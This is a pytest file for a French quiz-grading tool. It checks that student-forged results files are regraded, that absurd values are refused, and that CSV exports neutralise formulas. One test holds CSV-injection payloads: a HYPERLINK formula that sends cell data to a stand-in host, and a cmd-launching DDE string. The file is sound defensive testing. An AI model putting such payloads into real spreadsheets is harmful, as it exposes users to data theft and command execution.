"""Results files as a student could edit them, and as a spreadsheet would read them (issue 15).

A results file comes from the student's browser. Each test hands ``hvlab quiz report`` or ``hvlab
quiz grade`` a file someone edited (scores raised, absurd numbers, a far date, 100,000 nested
brackets, a formula for a spreadsheet) and checks the French answer, the exit code, and that no
case hangs (a guard that only catches a hang, not a performance measure).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from hvlab.cli import main
from hvlab.errors import ValidationError
from hvlab.quiz import grade_quiz, load_quiz
from hvlab.quiz.regrade import regrade
from hvlab.quiz.results import read_results, results_from_dict, spreadsheet_cell
from tests.conftest import ROOT
from tests.hang import no_hang

SAMPLE = load_quiz(ROOT / "quizzes" / "exemple-tous-types.yaml")
#: Responses to the sample quiz, all wrong (hotes-necessaires and puissance-lineaire: any seed).
WRONG: dict[str, Any] = {
    "type-esxi": 1,
    "apports": [3, 4],
    "type2-sans-hote": True,
    "utilisation-avant": "50 %",
    "memoire-hotes": "1 Go",
    "hotes-necessaires": {"seed": 3, "value": "1000"},
    "puissance-lineaire": {"seed": 3, "value": "1 W"},
    "migration-a-chaud": "VMware HA",
    "synonyme-hyperviseur": "OS",
    "types-produits": {},
    "deploiement-avant": [],
    "couches-esxi": [],
}


def _forged(student: str = "Alice Martin", **changes: Any) -> dict[str, Any]:
    """A results file of the sample quiz, all answers wrong, edited to say 14 / 14."""
    questions = [
        {
            "id": q.id,
            "score": q.points,
            "max": q.points,
            "correct": True,
            "response": WRONG[q.id],
            "seed": 3 if q.params else None,
            "hints_used": 0,
        }
        for q in SAMPLE.questions
    ]
    data = {
        "format": "hvlab-quiz-results",
        "version": 1,
        "quiz": SAMPLE.id,
        "title": SAMPLE.title,
        "student": student,
        "date": "2026-11-20T09:15:00.000Z",
        "score": 14,
        "max": 14,
        "questions": questions,
    }
    data.update(changes)
    return data


def _write(folder: Path, name: str, data: Any) -> Path:
    path = folder / name
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def test_regrade_finds_every_score_a_student_raised() -> None:
    stated = results_from_dict(_forged())
    regraded, found = regrade(stated, SAMPLE)
    assert regraded.score == 0 and regraded.max == 14
    assert {d.question for d in found} == {q.id for q in SAMPLE.questions}
    first = found[0]
    assert (first.question, first.stated, first.graded) == ("type-esxi", 1.0, 0.0)
    assert first.message == "le fichier annonce 1 point, la correction du quiz donne 0 point"


def test_report_counts_the_regraded_scores_and_flags_the_forgery(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "resultats"
    folder.mkdir()
    _write(folder, "alice.json", _forged())
    quizzes = str(ROOT / "quizzes")
    assert main(["quiz", "report", str(folder), "--quizzes", quizzes]) == 0
    captured = capsys.readouterr()
    assert "1 étudiant, score moyen 0 / 14" in captured.out
    assert "Attention : 12 écarts entre les fichiers et la correction des quiz" in captured.err
    assert (
        "alice.json : question « apports » : le fichier annonce 2 points, la correction du quiz "
        "donne 0 point"
    ) in captured.err
    assert main(["quiz", "report", str(folder), "--quizzes", quizzes, "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["quizzes"][0]["mean_score"] == 0
    assert len(data["discrepancies"]) == 12 and data["unverified"] == []


def test_report_says_when_it_cannot_check_a_quiz(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _write(tmp_path, "alice.json", _forged())
    assert main(["quiz", "report", str(tmp_path / "alice.json"), "--quizzes", "nulle-part"]) == 0
    err = capsys.readouterr().err
    assert "quiz « exemple-tous-types » introuvable dans nulle-part/" in err
    assert "non vérifiés" in err


def test_site_results_file_is_a_valid_responses_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    right = _forged()
    right["questions"][0]["response"] = 0  # type-esxi right, 1 point
    path = _write(tmp_path, "resultats.json", right)
    sample = str(ROOT / "quizzes" / "exemple-tous-types.yaml")
    assert main(["quiz", "grade", sample, "--responses", str(path), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["ignored"] == [] and data["score"] == 1.0
    assert data["questions"][0]["correct"] is True
    assert len(data["discrepancies"]) == 11
    python = grade_quiz(SAMPLE, {**WRONG, "type-esxi": 0})
    assert python.score == data["score"]
    assert main(["quiz", "grade", sample, "--responses", str(path)]) == 0
    out = capsys.readouterr().out
    assert "Écart avec le fichier : question « apports »" in out
    assert "Score : 1 / 14" in out


def test_grade_refuses_a_results_file_of_another_quiz(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, "r.json", _forged(quiz="stockage"))
    sample = str(ROOT / "quizzes" / "exemple-tous-types.yaml")
    assert main(["quiz", "grade", sample, "--responses", str(path)]) == 1
    err = capsys.readouterr().err
    assert "fichier de résultats du quiz « stockage », pas de « exemple-tous-types »" in err


def _edit_question(**changes: Any) -> dict[str, Any]:
    data = _forged()
    data["questions"][0].update(changes)
    return data


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (_edit_question(score=1e308), "« score » vaut 1 × 10³⁰⁸ : entre 0 et « max » (1) attendu"),
        (_edit_question(max=-1), "« max » vaut -1 : entre 0 (exclu) et 1\u202f000 points attendus"),
        (
            _edit_question(max=1e9),
            "« max » vaut 1\u202f000\u202f000\u202f000 : entre 0 (exclu) et 1\u202f000",
        ),
        (_edit_question(score=-0.5), "« score » vaut -0,5 : entre 0 et « max » (1) attendu"),
        (_edit_question(hints_used=10**9), "« hints_used » : un entier entre 0 et 100"),
        (_edit_question(id="a\x1b[31m"), "caractères de contrôle"),
        (_forged(date="9999-12-31T23:59:59Z"), "date invraisemblable « 9999-12-31T23:59:59Z »"),
        (_forged(date="hier"), "date illisible « hier »"),
        (_forged(student="x" * 10_000), "« student » : un texte d'au plus 200 caractères"),
        (_forged(score=1e308), "« score » : un nombre positif raisonnable est attendu"),
    ],
    ids=[
        "score 1e308",
        "negative max",
        "huge max",
        "negative score",
        "hints",
        "escape codes",
        "year 9999",
        "date",
        "long name",
        "total",
    ],
)
def test_absurd_values_are_refused_in_french(data: dict[str, Any], message: str) -> None:
    with pytest.raises(ValidationError) as error:
        results_from_dict(data, file="r.json")
    assert any(message in str(p) for p in error.value.problems), error.value.problems


def test_duplicate_questions_and_too_many_questions_are_refused() -> None:
    data = _forged()
    data["questions"].append(dict(data["questions"][0]))
    with pytest.raises(ValidationError, match="question « type-esxi » donnée deux fois"):
        results_from_dict(data)
    data["questions"] = [dict(data["questions"][0], id=f"q{i}") for i in range(1001)]
    with pytest.raises(ValidationError, match="trop de questions \\(1001, 1000 au plus\\)"):
        results_from_dict(data)


def test_deep_json_gives_a_french_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    deep = tmp_path / "profond.json"
    deep.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    with no_hang("read_results"), pytest.raises(ValidationError, match="document trop imbriqué"):
        read_results(deep)
    sample = str(ROOT / "quizzes" / "exemple-tous-types.yaml")
    with no_hang("hvlab quiz grade"):
        assert main(["quiz", "grade", sample, "--responses", str(deep)]) == 1
    assert "document trop imbriqué" in capsys.readouterr().err
    with no_hang("hvlab quiz report"):
        assert main(["quiz", "report", str(deep)]) == 1
    captured = capsys.readouterr()
    assert "Fichier ignoré" in captured.err and "trop imbriqué" in captured.err
    assert "Traceback" not in captured.err


def test_csv_cells_never_become_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    formula = '=HYPERLINK("http://exemple.invalid/?vol="&A1,"Cliquez")'
    data = _forged(quiz=formula, title="Quiz piégé")
    data["questions"][0]["id"] = "+1+cmd|' /C calc'!A0"
    data["questions"][1]["id"] = "@SUM(1+1)*cmd"
    data["questions"][2]["id"] = "-2+3"
    path = _write(tmp_path, "piege.json", data)
    assert main(["quiz", "report", str(path), "--csv", "-", "--quizzes", "nulle-part"]) == 0
    rows = [line.split(";") for line in capsys.readouterr().out.splitlines()[1:]]
    cells = [cell.strip('"') for row in rows for cell in row[:2]]
    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells), cells
    assert rows[0][0].strip('"').startswith("'=HYPERLINK(")
    assert rows[0][1] == "'+1+cmd|' /C calc'!A0"
    assert rows[1][1] == "'@SUM(1+1)*cmd" and rows[2][1] == "'-2+3"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_spreadsheet_cell_neutralises_every_formula_start(start: str) -> None:
    assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"
    assert spreadsheet_cell("a" + start) == "a" + start
